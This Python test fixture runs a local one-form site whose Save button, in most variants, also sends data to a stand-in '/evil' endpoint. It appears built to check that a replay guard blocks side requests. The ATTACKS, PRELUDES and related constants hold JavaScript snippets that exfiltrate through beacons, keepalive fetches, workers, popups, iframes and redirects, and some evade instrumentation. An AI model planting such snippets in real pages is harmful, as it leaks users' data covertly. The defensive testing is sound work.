"""A one-form site whose "Save" button does, in attacked versions, one more thing the recording never did.

The server logs every request it receives (``ProbeSite.received``; WebSocket opens included), so a
test can say, from the server's side, that nothing reached ``/evil``. ``site.variant`` picks what the
click does besides the recorded ``POST /save`` (see :data:`ATTACKS`); ``"base"`` is the recording.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

SAVE = ("fetch('/save', {method: 'POST', headers: {'content-type': 'application/x-www-form-urlencoded'}, "
        "body: 'note=' + encodeURIComponent(document.querySelector('[name=note]').value)});")

#: Instead of saving: save, then go to /done (a navigation the recording makes); or post the note as a
#: form (a navigation the server answers 303 to /done). See :data:`NAVIGATIONS`.
SAVE_THEN_DONE = SAVE.rstrip(";") + ".then(() => { location.href = '/done'; });"
FORM_POST = ("const f = document.createElement('form'); f.method = 'post'; f.action = '/save'; "
             "const i = document.createElement('input'); i.name = 'note'; "
             "i.value = document.querySelector('[name=note]').value; f.append(i); document.body.append(f); f.submit();")
#: Variants whose click navigates (recorded on their "-base" version): ``/done`` now redirects to
#: ``/evil``, as a recorded GET navigation's redirect or as the second hop of a redirect chain.
NAVIGATIONS = {"nav-base": SAVE_THEN_DONE, "nav-redirect": SAVE_THEN_DONE,
               "chain-base": FORM_POST, "chain-redirect": FORM_POST}

#: What the click does besides saving, per variant; ``{other}`` is the site on another origin (localhost).
ATTACKS = {
    "base": "",
    "worker": "new Worker('/worker.js');",
    "shared-worker": "new SharedWorker('/worker.js');",
    "keepalive": "fetch('/evil', {method: 'POST', body: 'x', keepalive: true});",
    "beacon": "navigator.sendBeacon('/evil', 'x');",
    "options": "fetch('/evil', {method: 'OPTIONS'});",
    "put": "fetch('/evil', {method: 'PUT', body: 'x'});",
    "popup": "window.open('/autopost');",
    "popup-noopener": "window.open('/autopost', '_blank', 'noopener');",
    "target-blank-link": "const a = document.createElement('a'); a.href = '/autopost'; a.target = '_blank'; "
                         "document.body.append(a); a.click();",
    "websocket": "new WebSocket('ws://' + location.host + '/evil-ws');",
    "iframe-other-origin": "const f = document.createElement('iframe'); f.src = '{other}/evil?leak=1'; "
                           "document.body.append(f);",
    "iframe-post": "const f = document.createElement('iframe'); f.srcdoc = '<form method=post action=/evil>"
                   "<input name=x value=1></form><script>document.forms[0].submit()<' + '/script>'; "
                   "document.body.append(f);",
    "navigate-other-origin": "setTimeout(() => { location.href = '{other}/evil?leak=1'; }, 50);",
    "service-worker": "navigator.serviceWorker.register('/sw.js');",
    "redirect": "",  # the server answers POST /save with a 307 to /evil (the body is posted again)
    "slow-redirect": "",  # the same 307, 3 s late: the guard is still fetching it when the replay ends
    "timer": "",  # the page posts to /evil 1.5 s after it loads (a plan that starts by waiting)
    # The page kept its own fetch before any replay could touch it, and sends from pagehide with it as
    # the click leaves the page: Playwright lets such a request go unrouted (the guard's backstop sees it).
    "own-keepalive-on-leave": "setTimeout(() => { location.href = '/gone'; }, 50);",
    # The same from a frame of another origin the page had before the replay (another renderer process,
    # its own DevTools target), as the click leaves the page.
    "widget-own-keepalive": "setTimeout(() => { location.href = '/gone'; }, 50);",
    # A popup opened on about:blank and scripted at once by the click (a new target that runs before
    # anything could be attached to it: its first requests leave through its opener's loader).
    "blank-popup-fetch": "const w = window.open(''); w.fetch('/evil?via=popup-fetch', {method: 'POST', body: 'x'});",
    "blank-popup-beacon": "const w = window.open(''); w.navigator.sendBeacon('/evil?via=popup-beacon', 'x');",
    "blank-popup-write": ("const w = window.open(''); w.document.write('<img src=\"/logo.png\"><script>"
                          "fetch(\"/evil?via=popup-write\", {method: \"POST\", body: \"x\"})<' + '/script>');"),
    "blank-popup-location": "const w = window.open(''); w.location = '/evil?via=popup-location';",
    # ... and closed at once: the keepalive fetch outlives the popup.
    "blank-popup-closed": ("const w = window.open(''); w.fetch('/evil?via=popup-closed', {method: 'POST', body: 'x', "
                           "keepalive: true}); w.close();"),
    # ... and posts to another origin with a preflight (the site allows it: CORS headers on every answer).
    "blank-popup-cors": ("const w = window.open(''); w.fetch('{other}/evil?via=popup-cors', {method: 'POST', "
                         "headers: {'content-type': 'application/json', 'x-note': '1'}, body: '{}'});"),
    # A blank iframe the click adds, makes send a beacon and removes at once.
    "blank-iframe-beacon": ("const f = document.createElement('iframe'); document.body.append(f); "
                            "f.contentWindow.navigator.sendBeacon('/evil?via=iframe-beacon', 'x'); f.remove();"),
}

#: Not an attack of the set above (its plan waits after the click, so the guard is still on): a blank
#: popup the click opens and makes post 300 ms later, long after the guard attached all it could to it.
BLANK_POPUP_LATER = ("const w = window.open(''); "
                     "setTimeout(() => w.fetch('/evil?via=popup-later', {method: 'POST', body: 'x'}), 300);")

#: Not an attack: the click also opens a receipt in a blank popup (what it loads is a read). Recorded
#: and replayed alike, it must replay to the end.
RECEIPT_POPUP = "const w = window.open(''); w.document.write('<h1>Saved</h1><img src=\"/logo.png\">'); w.document.close();"

#: Not an attack of the set above (its plan waits after the click): a blank popup the click opens (no
#: navigation request: nothing to refuse it by) and closes 0.5 s later, which sends from its own saved
#: fetch as it is closed. The popup is another page, with its own backstop.
BLANK_POPUP = ("const w = window.open(''); w.eval(\"const f = fetch.bind(window); addEventListener('pagehide', () => "
               "f('/evil?via=blank-popup', {method: 'POST', body: 'x', keepalive: true}));\"); "
               "setTimeout(() => w.close(), 500);")

#: Run when the page loads, before any replay acts in it (per variant).
PRELUDES = {
    "timer": "setTimeout(() => fetch('/evil', {method: 'POST', body: 'timer'}), 1500);",
    "own-keepalive-on-leave": ("const ownFetch = window.fetch; addEventListener('pagehide', () => "
                               "ownFetch('/evil?via=own-keepalive', {method: 'POST', body: 'x', keepalive: true}));"),
}


WORKER = "fetch('/evil', {method: 'POST', body: 'from a worker'});"
SW = ("self.addEventListener('install', (e) => e.waitUntil(fetch('/evil', {method: 'POST', body: 'sw'})));\n"
      "self.addEventListener('fetch', () => {});")
WIDGET = ("<!doctype html><script>const ownFetch = window.fetch; addEventListener('pagehide', () => "
          "ownFetch('/evil?via=widget', {method: 'POST', body: 'x', keepalive: true}));</script><p>widget</p>")
AUTOPOST = "<!doctype html><form method=post action=/evil><input name=x value=1></form>" \
           "<script>document.forms[0].submit()</script>"


@dataclass
class Received:
    method: str
    path: str
    body: bytes = b""


@dataclass
class ProbeSite:
    variant: str = "base"
    received: list[Received] = field(default_factory=list)

    def __post_init__(self) -> None:
        handler = type("Handler", (_Handler,), {"site": self})
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}"

    @property
    def other(self) -> str:
        return f"http://localhost:{self.server.server_port}"

    #: How many requests had arrived when the test closed the replay's browser context.
    at_close: int | None = None

    def evil(self) -> list[Received]:
        return [r for r in self.received if r.path.startswith("/evil")]

    def evil_before_close(self) -> list[Received]:
        """What reached /evil before the test closed the context: a page that sends as it is closed
        does so after the replay returned it to its user (the guard is lifted then, as documented)."""
        return [r for r in self.received[:self.at_close] if r.path.startswith("/evil")]

    def __enter__(self) -> ProbeSite:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    def page(self) -> str:
        if self.variant in NAVIGATIONS:
            save, attack = NAVIGATIONS[self.variant], ""
        else:
            save = SAVE
            attack = {"blank-popup": BLANK_POPUP, "blank-popup-later": BLANK_POPUP_LATER,
                      "receipt-popup": RECEIPT_POPUP}.get(self.variant) or ATTACKS[self.variant]
            attack = attack.replace("{other}", self.other)
        prelude = PRELUDES.get(self.variant)
        timer = f"<script>{prelude}</script>" if prelude else ""
        if self.variant == "widget-own-keepalive":
            timer += f'<iframe src="{self.other}/widget"></iframe>'

        return f"""<!doctype html><html><head><title>Note</title></head><body>
<input name="note" aria-label="Note"> <button type="button" id="go">Save</button>
<script>document.getElementById('go').addEventListener('click', () => {{ {save} {attack} }});</script>
{timer}</body></html>"""


class _Handler(BaseHTTPRequestHandler):
    site: ProbeSite

    def log_message(self, *args: object) -> None:
        pass

    def _send(self, status: int, body: str = "", kind: str = "text/html", **headers: str) -> None:
        data = body.encode()
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        cors = {"Access-Control-Allow-Origin": self.headers.get("Origin") or "*",
                "Access-Control-Allow-Methods": "POST, PUT, OPTIONS", "Access-Control-Allow-Headers": "content-type, x-note"}
        for name, value in (cors | headers).items():
            self.send_header(name, value)
        self.end_headers()
        try:
            self.wfile.write(data)
        except ConnectionError:
            pass

    def _log(self) -> bytes:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        self.site.received.append(Received(self.command, self.path, body))
        return body

    def do_GET(self) -> None:
        self._log()
        path = urlsplit(self.path).path
        if path == "/page":
            return self._send(200, self.site.page())
        if path == "/worker.js":
            return self._send(200, WORKER, "text/javascript")
        if path == "/sw.js":
            return self._send(200, SW, "text/javascript")
        if path == "/autopost":
            return self._send(200, AUTOPOST)
        if path == "/widget":
            return self._send(200, WIDGET)
        if path == "/done":
            if self.site.variant.endswith("-redirect"):
                return self._send(302, "", Location=f"/evil?via={self.site.variant}")
            return self._send(200, "<!doctype html><h1>Saved</h1>")
        self._send(404, "not found")

    def do_POST(self) -> None:
        self._log()
        if self.path == "/save" and self.site.variant.startswith("chain-"):
            return self._send(303, "", Location="/done")
        if self.path == "/save" and self.site.variant in ("redirect", "slow-redirect"):
            if self.site.variant == "slow-redirect":
                time.sleep(3)
            return self._send(307, "", Location="/evil")
        self._send(200, "ok", "text/plain")

    def do_PUT(self) -> None:
        self._log()
        self._send(200, "ok", "text/plain")

    def do_OPTIONS(self) -> None:
        self._log()
        self._send(204)
